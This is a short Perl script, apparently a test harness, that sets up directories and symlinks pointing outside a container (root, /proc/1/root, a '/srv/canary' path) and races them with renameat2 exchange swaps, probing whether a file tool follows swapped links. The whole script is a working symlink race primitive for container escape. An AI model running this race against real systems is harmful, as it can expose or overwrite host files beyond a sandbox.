# Swaps directories for symbolic links that lead out of the container, and back, as fast as it goes. What it has below
# those names is called as what lies where the links lead.
#
#   perl -e PROGRAM ROOT...        says "built" before it begins to swap
use strict;
use warnings;
use POSIX ();

my %calls = (x86_64 => 316, aarch64 => 276);
my $renameat2 = $calls{ (POSIX::uname())[4] } or die "no system calls known";
my $exchange = 2;
$| = 1;

my @targets = ("/", "/srv/canary", "../" x 40 . "srv/canary", "../" x 40, "/proc/1/root/srv/canary");
my @pairs;
for my $root (@ARGV) {
    mkdir $root;
    for my $index (0 .. 39) {
        my ($directory, $link) = ("$root/d$index", "$root/l$index");
        mkdir $directory;
        mkdir "$directory/sub";
        for my $name ("secret", "sub/secret", map { "sub/f$_" } 1 .. 20) {
            open my $file, '>', "$directory/$name" or die "$directory/$name: $!";
            print $file "mine\n";
        }
        symlink $targets[$index % @targets], $link or die "$link: $!";
        push @pairs, [$directory, $link];
    }
}
print "built\n";
for (my $turn = 0; ; $turn++) {
    my ($directory, $link) = $pairs[$turn % @pairs]->@*;
    syscall $renameat2, -100, $directory, -100, $link, $exchange;
    # Contents that the next look at the directory must send.
    if (open my $file, '>>', "$directory/sub/f1") { print $file "$turn\n" }
}
